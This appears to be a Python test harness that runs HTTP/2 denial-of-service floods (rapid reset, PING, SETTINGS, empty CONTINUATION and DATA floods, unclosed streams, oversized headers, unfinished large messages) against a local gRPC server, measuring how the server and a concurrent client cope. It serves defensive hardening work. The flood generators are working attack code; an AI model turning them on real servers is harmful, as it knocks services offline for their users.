"""Issue #14's attacks as scripts over a real socket, for either gRPC server, with a well-behaved gRPC
client calling the same server alongside.

Each attack is a raw HTTP/2 client on its own connection: it sends its flood in writes of a few
hundred frames while it reads (and answers nothing of) what the server sends, and stops when the
server hangs up, when the flood is out, or at ``ATTACK_SECONDS``. :func:`run` returns what happened
on both sides: the GOAWAY code the attacker got (if any), whether the server closed its connection,
how many flood units it got out, and the well-behaved client's calls, failures and slowest answer.

``test_picker_h2grpc_floods.py`` runs each against both servers; ``python h2_attacks.py`` prints the
table ``docs/security.md`` quotes.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field

import grpc
from hpack import Encoder

from pointsman_picker.h2grpc import wire
from pointsman_picker.h2grpc.wire import END_HEADERS, END_STREAM, ErrorCode, FrameType, Setting

ECHO = "/test.Echo/Echo"
ATTACK_SECONDS = 3.0
DEADLINE = 2.0  # the well-behaved client's per-call deadline


def _identity(data: bytes) -> bytes:
    return data


class _Echo(grpc.GenericRpcHandler):  # type: ignore[misc]
    """grpc.aio's echo: every message back, then OK."""

    def service(self, details: grpc.HandlerCallDetails) -> grpc.RpcMethodHandler | None:
        if details.method != ECHO:
            return None

        async def echo(requests: AsyncIterator[bytes], context: object) -> AsyncIterator[bytes]:
            async for request in requests:
                yield request

        return grpc.stream_stream_rpc_method_handler(
            echo, request_deserializer=_identity, response_serializer=_identity
        )


@contextlib.asynccontextmanager
async def grpcio_echo() -> AsyncIterator[int]:
    server = grpc.aio.server(options=[("grpc.so_reuseport", 0)])
    server.add_generic_rpc_handlers((_Echo(),))
    port = server.add_insecure_port("127.0.0.1:0")
    await server.start()
    try:
        yield port
    finally:
        await server.stop(0)


# -- the attacks: each yields the bytes of one flood unit, numbered ------------------------------------
_FIELDS = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", ECHO.encode()),
    (b":authority", b"picker"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
]


def _block(extra: list[tuple[bytes, bytes]] = []) -> bytes:  # noqa: B006 (read only)
    # Literals without indexing: the same bytes serve every stream, so the flood costs the attacker
    # (in this same process) next to nothing to build.
    return b"".join(wire.encode_literal(name, value) for name, value in _FIELDS + extra)


_REQUEST = _block()
_BIG = _block([(f"x-pad-{i}".encode(), b"p" * 1000) for i in range(60)])


def _headers(encoder: Encoder, stream_id: int, flags: int = END_HEADERS, block: bytes = _REQUEST) -> bytes:
    return wire.frame(FrameType.HEADERS, flags, stream_id, block)


def rapid_reset(encoder: Encoder) -> Iterator[bytes]:
    for stream_id in range(1, 2**31, 2):
        yield _headers(encoder, stream_id) + wire.rst_stream(stream_id, ErrorCode.CANCEL)


def ping_flood(encoder: Encoder) -> Iterator[bytes]:
    for i in range(2**40):
        yield wire.frame(FrameType.PING, 0, 0, i.to_bytes(8, "big"))


def settings_flood(encoder: Encoder) -> Iterator[bytes]:
    for i in range(2**40):
        yield wire.settings_frame({Setting.INITIAL_WINDOW_SIZE: 65_535 + i % 2})


def empty_continuations(encoder: Encoder) -> Iterator[bytes]:
    yield wire.frame(FrameType.HEADERS, 0, 1, b"")
    while True:
        yield wire.frame(FrameType.CONTINUATION, 0, 1, b"")


def empty_data(encoder: Encoder) -> Iterator[bytes]:
    yield _headers(encoder, 1)
    while True:
        yield wire.frame(FrameType.DATA, 0, 1, b"")


def many_streams(encoder: Encoder) -> Iterator[bytes]:
    for stream_id in range(1, 2**31, 2):  # opened, never ended
        yield _headers(encoder, stream_id)


def big_headers(encoder: Encoder) -> Iterator[bytes]:
    for stream_id in range(1, 2**31, 2):  # 60 KiB of fields per request, in one frame
        yield _headers(encoder, stream_id, END_HEADERS | END_STREAM, _BIG)


def unfinished_messages(encoder: Encoder) -> Iterator[bytes]:
    # Each stream: a message announced at 4 MB, 1 MiB of it sent, never finished (the window's worth).
    body = wire.frame(FrameType.DATA, 0, 1, b"\0\0\x3d\x09\x00" + b"m" * (16_384 - 5))
    rest = wire.frame(FrameType.DATA, 0, 1, b"m" * 16_384)
    for stream_id in range(1, 2**31, 2):
        sid = stream_id.to_bytes(4, "big")
        frames = [body] + [rest] * 63
        yield _headers(encoder, stream_id) + b"".join(f[:5] + sid + f[9:] for f in frames)


ATTACKS: dict[str, Callable[[Encoder], Iterator[bytes]]] = {
    "rapid reset": rapid_reset,
    "PING flood": ping_flood,
    "SETTINGS flood": settings_flood,
    "zero-length CONTINUATION flood": empty_continuations,
    "empty DATA flood": empty_data,
    "streams never ended": many_streams,
    "60 KiB header lists": big_headers,
}
# Heavy (150 streams x 1 MiB sent): run by `python h2_attacks.py`, not by the test suite.
MEMORY_ATTACKS: dict[str, Callable[[Encoder], Iterator[bytes]]] = {
    "unfinished 4 MB messages on many streams": unfinished_messages,
}
UNITS = 20_000  # flood units at most
PER_WRITE = 200
HEAVY_UNITS = 150  # streams of the memory attack


@dataclass
class Outcome:
    attack: str
    goaway: str | None = None  # the code of the last GOAWAY the attacker got
    closed: bool = False  # the server closed the attacker's connection
    sent: int = 0  # flood units written before that
    refused_streams: int = 0  # RST_STREAM REFUSED_STREAM the attacker got
    resets: dict[str, int] = field(default_factory=dict)  # every RST_STREAM it got, by code
    seconds: float = 0.0
    calls: int = 0  # the well-behaved client's
    failures: list[str] = field(default_factory=list)
    slowest: float = 0.0


async def _read_all(reader: asyncio.StreamReader, outcome: Outcome) -> None:
    buffer = b""
    with contextlib.suppress(ConnectionError):
        while chunk := await reader.read(65536):
            buffer += chunk
            at = 0
            while len(buffer) - at >= 9:
                length, kind, _flags, _stream = wire.frame_header(buffer, at)
                if len(buffer) - at - 9 < length:
                    break
                payload = buffer[at + 9 : at + 9 + length]
                if kind == FrameType.GOAWAY:
                    outcome.goaway = ErrorCode(wire.u32(payload, 4)).name
                elif kind == FrameType.RST_STREAM:
                    code = ErrorCode(wire.u32(payload))
                    outcome.resets[code.name] = outcome.resets.get(code.name, 0) + 1
                    outcome.refused_streams += code == ErrorCode.REFUSED_STREAM
                at += 9 + length
            buffer = buffer[at:]
    outcome.closed = True


async def _attack(port: int, flood: Iterator[bytes], outcome: Outcome) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    reading = asyncio.create_task(_read_all(reader, outcome))
    started = time.perf_counter()
    try:
        writer.write(wire.PREFACE + wire.settings_frame({}))
        units = HEAVY_UNITS if outcome.attack in MEMORY_ATTACKS else UNITS
        per_write = 1 if outcome.attack in MEMORY_ATTACKS else PER_WRITE
        while outcome.sent < units and not reading.done() and time.perf_counter() - started < ATTACK_SECONDS:
            writer.write(b"".join(next(flood) for _ in range(per_write)))
            outcome.sent += per_write
            try:
                await asyncio.wait_for(writer.drain(), ATTACK_SECONDS)
            except (ConnectionError, TimeoutError):
                break
            await asyncio.sleep(0)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.shield(reading), 0.5)  # what the server says at the end
    finally:
        outcome.seconds = round(time.perf_counter() - started, 2)
        reading.cancel()
        writer.close()
        with contextlib.suppress(Exception):
            await writer.wait_closed()


async def _well_behaved(port: int, outcome: Outcome, stop: asyncio.Event) -> None:
    async with grpc.aio.insecure_channel(f"127.0.0.1:{port}") as channel:
        call = channel.stream_stream(ECHO, request_serializer=_identity, response_deserializer=_identity)
        while not stop.is_set():
            started = time.perf_counter()
            try:
                answers = [a async for a in call(iter([b"hello", b"world"]), timeout=DEADLINE)]
                if answers != [b"hello", b"world"]:
                    outcome.failures.append(f"answered {answers!r}")
            except grpc.aio.AioRpcError as exc:
                outcome.failures.append(exc.code().name)
            outcome.calls += 1
            outcome.slowest = max(outcome.slowest, time.perf_counter() - started)
            await asyncio.sleep(0.01)


async def run(port: int, attack: str) -> Outcome:
    outcome = Outcome(attack)
    stop = asyncio.Event()
    client = asyncio.create_task(_well_behaved(port, outcome, stop))
    await asyncio.sleep(0.05)  # the client connected and answered once
    await _attack(port, {**ATTACKS, **MEMORY_ATTACKS}[attack](Encoder()), outcome)
    await asyncio.sleep(0.1)
    stop.set()
    await client
    outcome.slowest = round(outcome.slowest, 3)
    return outcome


async def _main() -> None:
    import gc
    import sys

    import psutil
    from test_picker_h2grpc_protocol import Calls, Echo

    from pointsman_picker.h2grpc.server import GrpcServer

    process = psutil.Process()
    attacks = sys.argv[1:] or [*ATTACKS, *MEMORY_ATTACKS]
    for attack in attacks:
        for kind in ("native", "grpcio"):
            gc.collect()
            before = process.memory_info().rss
            async with contextlib.AsyncExitStack() as stack:
                if kind == "native":
                    server = GrpcServer(
                        {ECHO: lambda stream: Echo(Calls(), stream)}, max_message_bytes=4 << 20
                    )
                    port = await server.start("127.0.0.1", 0)
                    stack.push_async_callback(server.stop, 0)
                else:
                    port = await stack.enter_async_context(grpcio_echo())
                outcome = await run(port, attack)
                grown = (process.memory_info().rss - before) / 2**20
            print(f"{kind:>6} {outcome}  rss +{grown:.0f} MiB", flush=True)


if __name__ == "__main__":
    asyncio.run(_main())
